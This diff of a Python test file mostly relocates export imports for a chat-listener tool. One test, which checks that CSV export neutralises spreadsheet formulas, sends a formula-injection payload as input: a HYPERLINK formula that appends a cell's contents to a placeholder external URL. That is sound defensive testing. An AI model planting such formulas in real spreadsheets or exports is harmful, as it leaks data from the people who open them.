@@ -10,11 +10,19 @@ import subprocess
 from datetime import timedelta
 
 import pytest
-
 from harness import START, Conversation, make_engine
-from listener.export import INTERACTION_COLUMNS
+from operators_support import (
+    ALEX,
+    QUIET,
+    SAM,
+    everything_stored,
+    listener_process,
+    populate,
+    store_url,
+)
+
 from listener.cli import main
-from operators_support import ALEX, QUIET, SAM, everything_stored, listener_process, populate, store_url
+from listener.operators.export import INTERACTION_COLUMNS
 
 
 @pytest.fixture
@@ -272,7 +280,7 @@ def test_a_message_time_window_uses_the_arrival_clock(store, tmp_path, listener)
 
 
 def test_csv_export_defuses_spreadsheet_formulas_and_tttc_keeps_words_verbatim(store, chat):
-    from listener.export import ExportRequest, export
+    from listener.operators.export import ExportRequest, export
 
     chat.send("QUIET-ROOM")
     chat.send('=HYPERLINK("http://example.invalid/?"&A2,"click")')
